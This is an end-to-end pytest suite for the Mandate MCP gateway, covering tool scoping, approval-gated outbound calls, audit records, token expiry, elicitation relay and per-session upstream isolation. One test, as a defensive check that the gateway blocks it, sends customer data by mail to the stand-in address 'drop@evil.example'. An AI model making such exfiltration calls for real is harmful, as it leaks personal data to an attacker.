"""`mandate gateway --stdio` under the official Python SDK's stdio client, and
upstream elicitations relayed only on session-isolated upstreams.

Threats closed:

* the stdio gateway (one local agent, token in MANDATE_TOKEN) skipping what
  the HTTP gateway enforces: tools listed that the subject may not call, a
  high-impact call forwarded without approval, a call left out of the audit
  log;
* a stdio gateway started with, or kept running on, an expired token (the
  launch token must be re-verified on every call, not only at start);
* an upstream's elicitation request reaching the wrong client, or none: on a
  `isolation = "session"` upstream it must reach the client of the call that
  caused it; on a shared upstream it cannot be attributed and must never
  reach any client;
* server-side state crossing Mandate sessions: with `isolation = "session"`
  two sessions (different `sid`) must get different upstream processes, while
  one session keeps its process across client connections.
"""

from __future__ import annotations

import contextlib
import json
import os
import subprocess
import sys
import time
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client, MCPError
from mcp.client.stdio import StdioServerParameters, stdio_client

from e2e_support import (
    Gateway,
    Issuer,
    Launcher,
    everything_entry,
    free_port,
    gateway_toml,
    mandate_bin,
    meta_of,
    read_jsonl,
    run_mandate,
    text_of,
)

DENIED = -32003
CORR = "io.mandate/correlation_id"
ELICIT_TOOL = "trigger-elicitation-request"

# A tiny upstream on the official Python SDK (stdio): `whoami` answers with
# its process id, `ask_name` asks the client for a name by elicitation (it
# asks whatever capabilities the client declared, so a shared connection's
# handling of an unattributable elicitation is observable too).
PROBE_SERVER = '''
import os
from pydantic import BaseModel
from mcp.server.mcpserver import Context, MCPServer

server = MCPServer("isolation-probe", version="1.0.0")


class Answer(BaseModel):
    name: str


@server.tool(description="Process id of this server (read-only).")
async def whoami() -> str:
    return str(os.getpid())


@server.tool(description="Ask the user for a name.")
async def ask_name(ctx: Context) -> str:
    r = await ctx.elicit("What is your name?", Answer)
    if r.action == "accept":
        return f"accepted:{r.data.name} pid:{os.getpid()}"
    return f"{r.action} pid:{os.getpid()}"


server.run("stdio")
'''


def run(fn, *args):
    return anyio.run(fn, *args)


# --------------------------------------------------------------------------
# 1-2. `mandate gateway --stdio` under the SDK's stdio client


class StdioSetup:
    """A config for `mandate gateway --stdio` in front of the demo workspace
    upstream (recording what reaches it)."""

    def __init__(self, root: Path, issuer: Issuer, leeway_secs: int = 30) -> None:
        root.mkdir(parents=True, exist_ok=True)
        self.root = root
        self.issuer = issuer
        port = free_port()  # never listened on: only names the audience
        self.audience = f"http://127.0.0.1:{port}/mcp"
        self.data_dir = root / "data"
        self.record = root / "docs-calls.jsonl"
        self.record.touch()
        self.stderr_path = root / "gateway.stderr"
        toml = gateway_toml(
            port=port, data_dir=self.data_dir, jwks=issuer.jwks_path, issuer=issuer.issuer,
            upstreams={
                "docs": {
                    "command": str(mandate_bin()),
                    "args": ["demo-server", "--profile", "workspace", "--record", str(self.record)],
                    "timeout_secs": 15, "default_class": "deny",
                    # export_all stays unclassified: denied and not listed.
                    "tools": {"search": "read", "list_customers": "read", "send_mail": "outbound"},
                },
            },
        )
        assert "leeway_secs = 30" in toml
        self.config = root / "mandate.toml"
        self.config.write_text(toml.replace("leeway_secs = 30", f"leeway_secs = {leeway_secs}"))

    def argv(self) -> list[str]:
        return [str(mandate_bin()), "gateway", "--stdio", "--config", str(self.config)]

    def params(self, token: str) -> StdioServerParameters:
        return StdioServerParameters(
            command=str(mandate_bin()), args=self.argv()[1:],
            env={"MANDATE_TOKEN": token, "MANDATE_LOG": "info,mandate=debug"},
        )

    @contextlib.asynccontextmanager
    async def client(self, token: str) -> AsyncIterator[Client]:
        """The official SDK stdio client, launching the gateway as its server."""
        with open(self.stderr_path, "a") as errlog:
            async with Client(stdio_client(self.params(token), errlog=errlog), mode="legacy",
                              read_timeout_seconds=20) as c:
                yield c

    def stderr(self) -> str:
        return self.stderr_path.read_text(errors="replace") if self.stderr_path.exists() else ""

    def upstream_calls(self) -> list[dict[str, Any]]:
        return read_jsonl(self.record)

    def replay(self, sid: str) -> list[dict[str, Any]]:
        r = run_mandate("audit", "replay", "--data-dir", str(self.data_dir), "--session", f"sid:{sid}", timeout=30)
        assert r.returncode == 0, f"audit replay failed ({r.returncode}): {r.stderr}"
        return [json.loads(line) for line in r.stdout.splitlines() if line.strip()]


def test_stdio_gateway_lists_only_permitted_namespaced_tools_and_returns_real_result(
    tmp_path: Path, issuer: Issuer
) -> None:
    setup = StdioSetup(tmp_path, issuer)
    # list_customers is classified but outside the scope; export_all is unclassified.
    tok = issuer.mint(setup.audience, scope="docs.search docs.send_mail")

    async def go():
        async with setup.client(tok) as c:
            names = sorted(t.name for t in (await c.list_tools()).tools)
            result = await c.call_tool("docs.search", {"query": "supplier report"})
            return names, result

    try:
        names, result = run(go)
    except Exception as e:
        raise AssertionError(f"stdio session failed: {e!r}\ngateway stderr:\n{setup.stderr()}") from e
    assert "docs.search" in names, names
    assert "docs.list_customers" not in names, f"a tool outside the scope is listed: {names}"
    assert "docs.export_all" not in names, f"an unclassified tool is listed: {names}"
    assert "search" not in names and all(n.startswith("docs.") for n in names), names
    assert not result.is_error, result
    assert text_of(result).startswith('Result for "supplier report": Q3 supplier report'), result
    assert meta_of(result).get(CORR), f"no correlation id in result _meta: {result.meta}"
    calls = setup.upstream_calls()
    assert [c["tool"] for c in calls] == ["search"], calls
    assert calls[0]["arguments"] == {"query": "supplier report"}, calls


def test_stdio_gateway_denies_outbound_tool_pending_approval_and_never_forwards_it(
    tmp_path: Path, issuer: Issuer
) -> None:
    setup = StdioSetup(tmp_path, issuer)
    tok = issuer.mint(setup.audience, scope="docs.*")

    async def go():
        async with setup.client(tok) as c:
            with pytest.raises(MCPError) as denied:
                await c.call_tool("docs.send_mail", {"to": "drop@evil.example", "subject": "customers",
                                                     "body": "ada@example.com"})
            # The session stays usable after a denial.
            ok = await c.call_tool("docs.search", {"query": "after denial"})
            return denied.value, ok

    try:
        err, ok = run(go)
    except Exception as e:
        raise AssertionError(f"stdio session failed: {e!r}\ngateway stderr:\n{setup.stderr()}") from e
    assert err.code == DENIED, (err.code, err.message, err.data)
    assert isinstance(err.data, dict) and err.data.get("reason") == "approval_required", err.data
    assert err.data.get("denied") is True and err.data.get("tool") == "docs.send_mail", err.data
    assert err.data.get("decision_id"), err.data
    assert not ok.is_error and "after denial" in text_of(ok), ok
    assert [c["tool"] for c in setup.upstream_calls()] == ["search"], \
        f"the denied call reached the upstream: {setup.upstream_calls()}"


def test_stdio_gateway_audits_every_decision_under_the_tokens_session(tmp_path: Path, issuer: Issuer) -> None:
    setup = StdioSetup(tmp_path, issuer)
    sid = "stdio-" + uuid.uuid4().hex[:10]
    tok = issuer.mint(setup.audience, scope="docs.*", sid=sid)

    async def go():
        async with setup.client(tok) as c:
            ok = await c.call_tool("docs.search", {"query": "audited"})
            with pytest.raises(MCPError) as denied:
                await c.call_tool("docs.send_mail", {"to": "a@example.com", "subject": "s", "body": "b"})
            # Outcome records are written after the response: wait for one
            # while the gateway still runs.
            deadline = time.monotonic() + 10
            while True:
                records = setup.replay(sid)
                if any(r["record"]["kind"] == "outcome" for r in records) or time.monotonic() > deadline:
                    return ok, denied.value, records
                await anyio.sleep(0.2)

    try:
        ok, err, records = run(go)
    except Exception as e:
        raise AssertionError(f"stdio session failed: {e!r}\ngateway stderr:\n{setup.stderr()}") from e
    recs = [r["record"] for r in records]
    assert all(r["subject"]["session"] == f"sid:{sid}" for r in recs), recs
    by = {(r["tool"], r["kind"]): r for r in recs}
    allow = by.get(("docs.search", "decision"))
    assert allow and allow["decision"]["effect"] == "allow", recs
    assert allow["correlation_id"] == meta_of(ok)[CORR], (allow, ok.meta)
    assert allow["subject"]["sub"] == "alice@example.com" and "agent-research" in allow["subject"]["act"], allow
    outcome = by.get(("docs.search", "outcome"))
    assert outcome and outcome["outcome"] == "ok", recs
    deny = by.get(("docs.send_mail", "decision"))
    assert deny and deny["decision"]["effect"] == "deny", recs
    assert deny["decision"]["id"] == err.data["decision_id"], (deny, err.data)
    assert ("docs.send_mail", "outcome") not in by, f"a denied call has an outcome record: {recs}"
    # The hash chain over what this gateway wrote verifies.
    verify = run_mandate("audit", "verify", "--data-dir", str(setup.data_dir), timeout=30)
    assert verify.returncode == 0, verify.stdout + verify.stderr


def test_stdio_gateway_refuses_to_start_with_an_expired_token(tmp_path: Path, issuer: Issuer) -> None:
    setup = StdioSetup(tmp_path, issuer, leeway_secs=0)
    now = int(time.time())
    tok = issuer.mint(setup.audience, scope="docs.*", iat=now - 600, nbf=now - 600, exp=now - 60)
    env = dict(os.environ, MANDATE_TOKEN=tok, MANDATE_LOG="info")
    init = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize",
                       "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                                  "clientInfo": {"name": "e2e", "version": "1"}}}) + "\n"
    p = subprocess.run(setup.argv(), input=init, capture_output=True, text=True, timeout=20, env=env)
    assert p.returncode != 0, f"gateway started with an expired token: rc={p.returncode} stdout={p.stdout!r}"
    assert "MANDATE_TOKEN" in p.stderr and "expired" in p.stderr, p.stderr
    assert '"result"' not in p.stdout, f"the gateway answered initialize: {p.stdout!r}"
    assert setup.upstream_calls() == []


def test_stdio_gateway_refuses_calls_once_the_launch_token_expires(tmp_path: Path, issuer: Issuer) -> None:
    setup = StdioSetup(tmp_path, issuer, leeway_secs=0)
    now = int(time.time())
    exp = now + 6
    tok = issuer.mint(setup.audience, scope="docs.*", iat=now, nbf=now, exp=exp)

    async def go():
        async with setup.client(tok) as c:
            first = await c.call_tool("docs.search", {"query": "before expiry"})
            first_at = time.time()
            await anyio.sleep(max(0.0, exp + 1.2 - time.time()))
            with pytest.raises(MCPError) as refused:
                await c.call_tool("docs.search", {"query": "after expiry"})
            with pytest.raises(MCPError) as refused_list:
                await c.list_tools()
            return first, first_at, refused.value, refused_list.value

    try:
        first, first_at, err, list_err = run(go)
    except Exception as e:
        raise AssertionError(f"stdio session failed: {e!r}\ngateway stderr:\n{setup.stderr()}") from e
    assert first_at < exp, "setup too slow: the first call finished after the token expired"
    assert not first.is_error and "before expiry" in text_of(first), first
    assert "token" in err.message.lower() and "expired" in err.message.lower(), (err.code, err.message, err.data)
    assert "token" in list_err.message.lower(), (list_err.code, list_err.message, list_err.data)
    queries = [c["arguments"]["query"] for c in setup.upstream_calls()]
    assert queries == ["before expiry"], f"a call on an expired token reached the upstream: {queries}"


# --------------------------------------------------------------------------
# 3-4. Elicitation relay and per-session upstream processes (HTTP gateway)


@pytest.fixture(scope="module")
def probe_server(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("probe") / "probe_server.py"
    path.write_text(PROBE_SERVER)
    return path


@pytest.fixture(scope="module")
def gateway(launcher: Launcher, issuer: Issuer, probe_server: Path) -> Gateway:
    node, script, arg = everything_entry()
    everything = {"command": node, "args": [script, arg], "timeout_secs": 20, "default_class": "deny",
                  "tools": {"echo": "read", ELICIT_TOOL: "read"}}
    probe = {"command": sys.executable, "args": [str(probe_server)], "timeout_secs": 20, "default_class": "deny",
             "tools": {"whoami": "read", "ask_name": "read"}}
    return launcher.gateway(issuer, {
        "iso": {**everything, "isolation": "session"},
        "shared": {**everything, "isolation": "shared"},
        "piso": {**probe, "isolation": "session"},
        "pshared": dict(probe),  # isolation defaults to "shared"
    })


def token(issuer: Issuer, gw: Gateway, **kw: Any) -> str:
    return issuer.mint(gw.audience, scope="iso.* shared.* piso.* pshared.*", **kw)


class Elicitations:
    """An elicitation callback that accepts with `content` and remembers every request."""

    def __init__(self, content: dict[str, Any]) -> None:
        self.content = content
        self.requests: list[Any] = []

    async def __call__(self, context: Any, params: Any):
        from mcp.types import ElicitResult

        self.requests.append(params)
        return ElicitResult(action="accept", content=self.content)


@contextlib.asynccontextmanager
async def http_client(gw: Gateway, tok: str, elicitation_callback: Any = None) -> AsyncIterator[Client]:
    """The official SDK client over Streamable HTTP, declaring elicitation
    support when given a callback."""
    import httpx2
    from mcp.client.streamable_http import streamable_http_client

    http = httpx2.AsyncClient(headers={"Authorization": f"Bearer {tok}"}, timeout=httpx2.Timeout(30, read=30))
    async with http:
        async with Client(streamable_http_client(gw.mcp_url, http_client=http), mode="legacy",
                          read_timeout_seconds=30, elicitation_callback=elicitation_callback) as c:
            yield c


async def call_or_error(c: Client, name: str, args: dict[str, Any]) -> Any:
    try:
        return await c.call_tool(name, args)
    except MCPError as e:
        return e


def describe(outcome: Any) -> str:
    if isinstance(outcome, MCPError):
        return f"MCPError(code={outcome.code}, message={outcome.message!r}, data={outcome.data!r})"
    return f"CallToolResult(is_error={outcome.is_error}, text={text_of(outcome)!r})"


def test_session_isolated_upstream_relays_server_everything_elicitation_to_the_calling_client(
    gateway: Gateway, issuer: Issuer
) -> None:
    answers = Elicitations({"name": "Ada Lovelace", "check": True, "integer": 7})

    async def go():
        async with http_client(gateway, token(issuer, gateway), answers) as c:
            listed = sorted(t.name for t in (await c.list_tools()).tools)
            return listed, await call_or_error(c, f"iso.{ELICIT_TOOL}", {})

    listed, outcome = run(go)
    assert not isinstance(outcome, MCPError), (
        f"iso.{ELICIT_TOOL} failed: {describe(outcome)}; the client was offered {listed}")
    assert len(answers.requests) == 1, f"elicitation not relayed to the client: {answers.requests}"
    assert "Please provide inputs" in answers.requests[0].message, answers.requests[0]
    text = text_of(outcome)
    assert not outcome.is_error, text
    assert "User provided the requested information" in text and "- Name: Ada Lovelace" in text, text
    assert "- Favorite Integer: 7" in text, text


def test_shared_upstream_never_relays_server_everything_elicitation_to_a_client(
    gateway: Gateway, issuer: Issuer
) -> None:
    answers = Elicitations({"name": "Mallory"})

    async def go():
        async with http_client(gateway, token(issuer, gateway), answers) as c:
            return await call_or_error(c, f"shared.{ELICIT_TOOL}", {})

    outcome = run(go)
    assert answers.requests == [], f"a shared upstream's elicitation reached a client: {answers.requests}"
    # The shared connection declares no elicitation support, so server-everything
    # either does not offer the tool at all (unknown tool) or gets a decline.
    if isinstance(outcome, MCPError):
        assert outcome.code == -32602 and "unknown tool" in outcome.message, describe(outcome)
    else:
        assert "Mallory" not in text_of(outcome) and "declined" in text_of(outcome), describe(outcome)


def test_session_isolated_upstream_relays_elicitation_and_returns_the_accepted_content(
    gateway: Gateway, issuer: Issuer
) -> None:
    answers = Elicitations({"name": "Grace Hopper"})

    async def go():
        async with http_client(gateway, token(issuer, gateway), answers) as c:
            return await call_or_error(c, "piso.ask_name", {})

    outcome = run(go)
    assert not isinstance(outcome, MCPError), describe(outcome)
    assert len(answers.requests) == 1 and answers.requests[0].message == "What is your name?", answers.requests
    assert text_of(outcome).startswith("accepted:Grace Hopper "), describe(outcome)


def test_shared_upstream_declines_elicitation_it_cannot_attribute(gateway: Gateway, issuer: Issuer) -> None:
    answers = Elicitations({"name": "Mallory"})

    async def go():
        async with http_client(gateway, token(issuer, gateway), answers) as c:
            return await call_or_error(c, "pshared.ask_name", {})

    outcome = run(go)
    assert answers.requests == [], f"a shared upstream's elicitation reached a client: {answers.requests}"
    assert not isinstance(outcome, MCPError), describe(outcome)
    assert text_of(outcome).startswith("decline "), describe(outcome)


def test_session_isolation_gives_each_session_its_own_upstream_process(gateway: Gateway, issuer: Issuer) -> None:
    alice = token(issuer, gateway, sid="sess-a-" + uuid.uuid4().hex[:8])
    bob = token(issuer, gateway, sub="bob@example.com", sid="sess-b-" + uuid.uuid4().hex[:8])

    async def whoami(tok: str, tool: str) -> list[int]:
        async with http_client(gateway, tok) as c:
            pids = []
            for _ in range(2):
                r = await c.call_tool(tool, {})
                assert not r.is_error, describe(r)
                pids.append(int(text_of(r)))
            return pids

    async def go():
        a1 = await whoami(alice, "piso.whoami")
        b = await whoami(bob, "piso.whoami")
        a2 = await whoami(alice, "piso.whoami")  # a second client connection, same token
        shared = [await whoami(alice, "pshared.whoami"), await whoami(bob, "pshared.whoami")]
        return a1, b, a2, shared

    a1, b, a2, shared = run(go)
    assert a1[0] == a1[1] and b[0] == b[1], (a1, b)
    assert a1[0] != b[0], f"two Mandate sessions share one upstream process: {a1} {b}"
    assert a2[0] == a1[0], f"the same session got a new upstream process on reconnect: {a1} -> {a2}"
    # Control: the shared upstream serves both sessions from one process.
    assert shared[0][0] == shared[1][0], shared
    assert shared[0][0] not in (a1[0], b[0]), shared
